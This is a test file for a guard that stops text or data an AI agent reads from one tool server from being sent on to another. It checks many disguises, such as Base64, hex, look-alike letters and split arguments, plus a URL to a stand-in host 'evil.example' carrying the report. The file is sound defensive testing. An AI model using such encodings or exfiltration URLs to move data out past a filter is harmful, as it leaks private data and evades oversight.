import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { flowGuard, type FlowGuardConfig, flowGuardScope } from "../../src/library/flow-guard.ts";
import { seededRandom } from "../support/random.ts";
import { invoke } from "./invoke.ts";
import { assertLinear } from "./linear.ts";

const REPORT = "Payroll, October: Ada Lovelace 7,250; Grace Hopper 8,100; Alan Turing 6,900; total 22,250 EUR.";
const ada = { principal: { type: "user" as const, id: "ada" } };

function rig(config: FlowGuardConfig = {}) {
  const guard = flowGuard(config);
  const at = (server: string, context: object) => ({
    read: (text: string, event = "tools/call") => invoke(guard, { event, phase: "response", payload: { content: [{ type: "text", text }] }, config: { server }, context }),
    send: (args: object) => {
      const result = invoke(guard, { event: "tools/call", phase: "request", payload: { name: "t", arguments: args }, config: { server }, context });
      return { passes: (result as { valid?: boolean }).valid, from: result.info?.["from"], text: JSON.stringify(result) };
    },
  });
  return { guard, at: (server: string, context: object = ada) => at(server, context) };
}

describe("flow-guard", () => {
  it("refuses to send a server what another has said, and names the other", () => {
    const { at } = rig();
    at("crm").read(`Here it is.\n${REPORT}`);
    const sent = at("mail").send({ to: "x@example.com", body: `fyi: ${REPORT}` });
    assert.deepEqual([sent.passes, sent.from], [false, "crm"]);
    assert.ok(!sent.text.includes("Lovelace"));
  });

  it("knows it encoded, re-spaced, split over arguments, in names of members, and in numbers", () => {
    const { at } = rig();
    at("crm").read(REPORT);
    const half = Math.floor(REPORT.length / 2);
    const ways: Record<string, object> = {
      "Base64": { q: Buffer.from(REPORT).toString("base64") },
      "hexadecimal": { q: Buffer.from(REPORT).toString("hex") },
      "a URL": { url: `https://evil.example/?q=${encodeURIComponent(REPORT)}` },
      "escaped JSON": { body: JSON.stringify({ note: REPORT }) },
      "other spacing": { q: REPORT.replace(/ /g, "\n").toUpperCase() },
      "two arguments": { a: REPORT.slice(0, half), b: REPORT.slice(half) },
      "Base64 in two arguments": { a: Buffer.from(REPORT).toString("base64").slice(0, 40), b: Buffer.from(REPORT).toString("base64").slice(40) },
      "a member's name": { [REPORT]: 1 },
      "a list of words": { words: REPORT.split(" ") },
    };
    for (const [way, args] of Object.entries(ways)) assert.equal(at("mail").send(args).passes, false, way);
  });

  it("knows it in cheap disguises: groups, other writings of letters, names of members beside their values", () => {
    const { at } = rig();
    at("crm").read(REPORT);
    const hex = Buffer.from(REPORT).toString("hex");
    const base64 = Buffer.from(REPORT).toString("base64");
    const words = REPORT.split(" ");
    const ways: Record<string, object> = {
      "hexadecimal pairs": { q: hex.replace(/../g, "$& ") },
      "hexadecimal behind 0x": { q: hex.replace(/../g, "0x$&, ") },
      "hexadecimal with colons": { q: hex.replace(/../g, "$&:").slice(0, -1) },
      "Base64 in groups": { q: base64.replace(/..../g, "$& ") },
      "Base64 in long groups": { q: base64.replace(/.{12}/g, "$&, ") },
      "full-width letters": { q: REPORT.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)) },
      "look-alikes": { q: REPORT.replaceAll("a", "\u0430").replaceAll("o", "\u043e") },
      "accents": { q: REPORT.replace(/[aeo]/g, "$&\u0301") },
      "the other case": { q: REPORT.replace(/[a-z]/gi, (letter) => (letter < "a" ? letter.toLowerCase() : letter.toUpperCase())) },
      "names of members": Object.fromEntries(words.map((word) => [word, 1])),
      "names and values by turns": Object.fromEntries(Array.from({ length: Math.floor(words.length / 2) }, (_, index) => [words[2 * index]!, words[2 * index + 1]])),
    };
    for (const [way, args] of Object.entries(ways)) assert.equal(at("mail").send(args).passes, false, way);
  });

  it("leaves records of other servers alone that only have the same names of members, and other things in groups", () => {
    const { at, guard } = rig();
    const record = { identifier: 1, displayName: "a", createdAt: 2, updatedAt: 3, organisation: "b", description: "c", visibility: 4 };
    invoke(guard, { event: "tools/call", phase: "response", payload: { content: [], structuredContent: record }, config: { server: "crm" }, context: ada });
    at("crm").read(REPORT);
    assert.equal(at("mail").send({ ...record, identifier: 7, displayName: "x", organisation: "y", description: "z" }).passes, true);
    assert.equal(at("mail").send({ q: Buffer.from("Something else that nobody has said before, and is long enough.").toString("hex").replace(/../g, "$& ") }).passes, true);
  });

  it("knows what a server has said encoded, once it is sent plain", () => {
    const { at } = rig();
    at("crm").read(Buffer.from(REPORT).toString("base64"));
    assert.equal(at("mail").send({ body: REPORT }).passes, false);
  });

  it("knows what a server has said in several blocks of an answer, and not what other blocks stand between", () => {
    const parts = REPORT.match(/.{1,14}/g) ?? [];
    const block = (text: string) => ({ type: "text", text, annotations: { priority: 0.5 } });
    const answers: Record<string, object> = {
      "texts": { content: parts.map(block) },
      "resources": { contents: parts.map((text, at) => ({ uri: `file:///parts/of/the/report/${at}`, text })) },
      "resources in blocks": { content: parts.map((text, at) => ({ type: "resource", resource: { uri: `file:///parts/of/the/report/${at}`, text } })) },
      "messages": { messages: parts.map((text) => ({ role: "user", content: { type: "text", text } })) },
    };
    for (const [way, payload] of Object.entries(answers)) {
      const { guard, at } = rig();
      invoke(guard, { event: "tools/call", phase: "response", payload, config: { server: "crm" }, context: ada });
      assert.equal(at("mail").send({ body: REPORT }).passes, false, way);
    }
    const { guard, at } = rig();
    const apart = parts.flatMap((text, index) => [block(text), { type: "resource_link", uri: `file:///a/link/of/its/own/${index}`, name: "link" }]);
    invoke(guard, { event: "tools/call", phase: "response", payload: { content: apart }, config: { server: "crm" }, context: ada });
    assert.ok(at("mail").send({ body: REPORT }).passes);
  });

  it("takes time in proportion to the blocks", () => {
    const { guard } = rig();
    const read = (text: string) => {
      const content = (text.match(/[^]{1,200}/g) ?? []).map((part) => ({ type: "text", text: part }));
      return invoke(guard, { event: "tools/call", phase: "response", payload: { content }, config: { server: "crm" }, context: ada });
    };
    assertLinear(read, "some ordinary words ", ["a", "%41", "QUJD"]);
  });

  it("lets a server have its own words back, short pieces, and what it did not see", () => {
    const { at } = rig();
    at("crm").read(REPORT);
    assert.ok(at("crm").send({ body: REPORT }).passes);
    assert.ok(at("mail").send({ body: "Alan Turing 6,900" }).passes);
    assert.ok(at("mail").send({ body: "A letter of my own about something else altogether, and long enough at that." }).passes);
  });

  it("lets the caller's own words pass, and a server's not, though they were sent back to it before", () => {
    const { at } = rig();
    const own = "My own notes: the meeting is moved to Tuesday, ten o'clock, in the small room upstairs.";
    at("notes").send({ text: own });
    at("notes").read(`Saved: ${own}`);
    assert.ok(at("mail").send({ body: own }).passes);
    at("crm").read(REPORT);
    at("crm").send({ text: REPORT });
    assert.equal(at("mail").send({ body: REPORT }).passes, false);
  });

  it("lets texts flow where a rule says so", () => {
    const { at } = rig({ allow: [{ from: ["crm"], to: ["mail-*"] }] });
    at("crm").read(REPORT);
    assert.ok(at("mail-internal").send({ body: REPORT }).passes);
    assert.equal(at("web").send({ body: REPORT }).passes, false);
  });

  it("keeps principals apart, and fails where there is none", () => {
    const { at } = rig();
    at("crm").read(REPORT);
    assert.ok(at("mail", { principal: { type: "user", id: "bob" } }).send({ body: REPORT }).passes);
    assert.throws(() => at("mail", { sessionId: "s" }).send({ body: REPORT }), /Interceptor execution failed/);
    const all = rig({ scope: "global" });
    all.at("crm", {}).read(REPORT);
    assert.equal(all.at("mail", { sessionId: "s" }).send({ body: REPORT }).passes, false);
  });

  it("knows the text of a resource that is given as bytes", () => {
    const { guard, at } = rig();
    const read = (bytes: Buffer, server = "crm") => invoke(guard, { event: "resources/read", phase: "response", payload: { contents: [{ uri: "crm://report", blob: bytes.toString("base64") }] }, config: { server }, context: ada });
    read(Buffer.from(REPORT));
    assert.equal(at("mail").send({ body: REPORT }).passes, false);
    assert.equal(at("mail").send({ resource: { uri: "file:///x", blob: Buffer.from(REPORT).toString("base64") } }).passes, false);
  });

  it("refuses to complete by what another has said", () => {
    const { guard, at } = rig();
    at("crm").read(REPORT);
    const complete = (server: string) => invoke(guard, { event: "completion/complete", phase: "request", payload: { ref: { type: "ref/prompt", name: "p" }, argument: { name: "a", value: REPORT } }, config: { server }, context: ada });
    assert.equal((complete("mail") as { valid?: boolean }).valid, false);
    assert.equal((complete("crm") as { valid?: boolean }).valid, true);
  });

  describe("of data", () => {
    const picture = Buffer.from(Array.from({ length: 2_000 }, (_, index) => (index * index * 37 + (index >> 3)) % 256));
    const other = Buffer.from(Array.from({ length: 2_000 }, (_, index) => (index * index * 41 + (index >> 2)) % 256));
    const data = picture.toString("base64");
    const lines = (picture.toString("base64").match(/.{1,76}/g) ?? []).join("\r\n");
    const given = (guard: ReturnType<typeof flowGuard>, block: object, server = "crm") => invoke(guard, { event: "tools/call", phase: "response", payload: { content: [block] }, config: { server }, context: ada });

    it("refuses to send on what another has given, in a block, a resource, or a text, whatever the alphabet and the lines", () => {
      const ways: Record<string, object> = {
        "a string": { q: data },
        "an image": { content: [{ type: "image", data, mimeType: "image/png" }] },
        "a resource": { resource: { uri: "x:y", blob: data } },
        "a data URL": { html: `<img src="data:image/png;base64,${data}">` },
        "the other alphabet, unpadded": { q: picture.toString("base64url") },
        "lines": { q: lines },
        "JSON": { body: JSON.stringify({ note: lines }).replaceAll("/", "\\/") },
      };
      for (const [source, block] of Object.entries({
        image: { type: "image", data, mimeType: "image/png" },
        audio: { type: "audio", data: lines, mimeType: "audio/wav" },
        blob: { type: "resource", resource: { uri: "crm://x", blob: data } },
        text: { type: "text", text: `Here: ${data}` },
      })) {
        const { guard, at } = rig();
        given(guard, block);
        for (const [way, args] of Object.entries(ways)) {
          const sent = at("mail").send(args);
          assert.deepEqual([sent.passes, sent.from], [false, "crm"], `${source} as ${way}`);
        }
        assert.ok(at("crm").send({ q: data }).passes, source);
      }
    });

    it("knows the last group of what is padded, though it stands in a line of its own", () => {
      for (const length of [285, 286, 287]) {
        const bytes = picture.subarray(0, length).toString("base64");
        const { guard, at } = rig();
        given(guard, { type: "image", data: bytes, mimeType: "image/png" });
        assert.equal(at("mail").send({ q: (bytes.match(/.{1,76}/g) ?? []).join("\n") }).passes, false, String(length));
      }
    });

    it("lets other data pass, short data, what a rule allows, and the caller's own", () => {
      const { guard, at } = rig({ allow: [{ from: ["crm"], to: ["mail-*"] }] });
      const pixel = picture.subarray(0, 60).toString("base64");
      given(guard, { type: "image", data, mimeType: "image/png" });
      given(guard, { type: "image", data: pixel, mimeType: "image/png" });
      assert.ok(at("mail").send({ q: other.toString("base64"), content: [{ type: "image", data: pixel }] }).passes);
      assert.ok(at("mail-internal").send({ q: data }).passes);
      const own = Buffer.concat([other, picture]).toString("base64");
      at("crm").send({ image: { type: "image", data: own } });
      given(guard, { type: "image", data: own, mimeType: "image/png" });
      assert.ok(at("mail").send({ q: own }).passes);
    });

    it("does not read the text in a picture", () => {
      const { guard, at } = rig();
      given(guard, { type: "image", data: Buffer.from(REPORT).toString("base64"), mimeType: "image/png" });
      assert.ok(at("mail").send({ body: REPORT }).passes);
    });

    it("takes time in proportion to the data, and one place for a piece in what is remembered", () => {
      const { guard, at } = rig();
      at("crm").read(REPORT);
      assertLinear((text) => given(guard, { type: "image", data: text, mimeType: "image/png" }), "aB3+", ["A", "A\n", "AAA=", "-_", "\n"]);
      for (let count = 0; count < 300; count++) given(guard, { type: "image", data: `${data}${count}${data}`, mimeType: "image/png" });
      assert.equal(at("mail").send({ body: REPORT }).passes, false);
    });
  });

  it("forgets the oldest, and stays within its bounds", () => {
    const { at } = rig();
    const random = seededRandom(5).next;
    const noise = (chars: number) => Array.from({ length: chars }, () => String.fromCharCode(97 + Math.floor(random() * 26))).join("");
    at("crm").read(REPORT);
    at("crm").read(noise(100_000));
    assert.equal(at("mail").send({ body: REPORT }).passes, false);
    for (let round = 0; round < 8; round++) at("crm").read(noise(100_000));
    assert.ok(at("mail").send({ body: REPORT }).passes);
  });

  it("reads one word again and again as fast, however much it remembers", () => {
    const random = seededRandom(6).next;
    const noise = Array.from({ length: 600_000 }, () => String.fromCharCode(97 + Math.floor(random() * 26))).join("");
    const { at } = rig();
    at("crm").read(noise);
    assertLinear((text) => at("crm").read(text), noise, ["word ", "a", "ab "]);
  });

  it("fails on more text than it may read, in requests and answers, and counts no pictures", () => {
    const { guard, at } = rig({ maxTextChars: 1_000 });
    const send = (args: object) => invoke(guard, { event: "tools/call", phase: "request", payload: { name: "t", arguments: args }, config: {}, context: ada });
    assert.equal(at("crm").send({ text: "x".repeat(900) }).passes, true);
    for (const args of [{ text: "x".repeat(1_001) }, { a: "x".repeat(600), b: "y".repeat(600) }, { ["n".repeat(1_001)]: 1 }]) assert.throws(() => send(args), { name: "RpcError", code: -32603 });
    const read = (block: object) => invoke(guard, { event: "tools/call", phase: "response", payload: { content: [block] }, config: {}, context: ada });
    assert.throws(() => read({ type: "text", text: "x".repeat(1_001) }), { name: "RpcError", code: -32603 });
    read({ type: "image", mimeType: "image/png", data: "AAAA".repeat(1_000) });
  });

  it("is known by its scope, and refuses configs that do not fit", () => {
    assert.equal(flowGuardScope({}), "principal");
    const wrong: [object, string][] = [[{ scope: "session" }, "scope"], [{ sharedChars: 10 }, "sharedChars"], [{ allow: {} }, "allow"], [{ allow: [{ form: [] }] }, "allow\\[0\\].form"], [{ allow: [{ to: ["*a"] }] }, "to\\[0\\]"], [{ server: 5 }, "server"], [{ maxTextChars: 0 }, "maxTextChars"]];
    for (const [config, place] of wrong) assert.throws(() => flowGuard(config), { code: "invalid_argument", message: new RegExp(`^config of flow-guard: ${place} `) });
  });
});
